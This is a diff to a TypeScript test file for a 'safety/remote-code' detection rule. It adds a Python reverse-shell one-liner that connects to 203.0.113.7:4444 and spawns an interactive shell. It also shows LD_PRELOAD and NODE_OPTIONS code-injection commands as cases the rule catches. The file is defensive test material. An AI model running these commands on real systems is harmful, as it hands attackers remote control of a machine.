@@ -2,6 +2,10 @@ import { ruleTester } from "../../testing/rule-tester.ts";
 
 ruleTester("safety/remote-code", {
   catches: [
+    {
+      shell:
+        'python3 -c \'import os,socket,subprocess; s=socket.socket(); s.connect(("203.0.113.7",4444)); os.dup2(s.fileno(),0); subprocess.call(["/bin/sh","-i"])\' <<< 1',
+    },
     { shell: "export LD_PRELOAD=/tmp/x.so; ls" },
     { shell: "env LD_PRELOAD=/var/tmp/x.so bash -c id" },
     { shell: "NODE_OPTIONS='--require /tmp/x.js' npm test" },
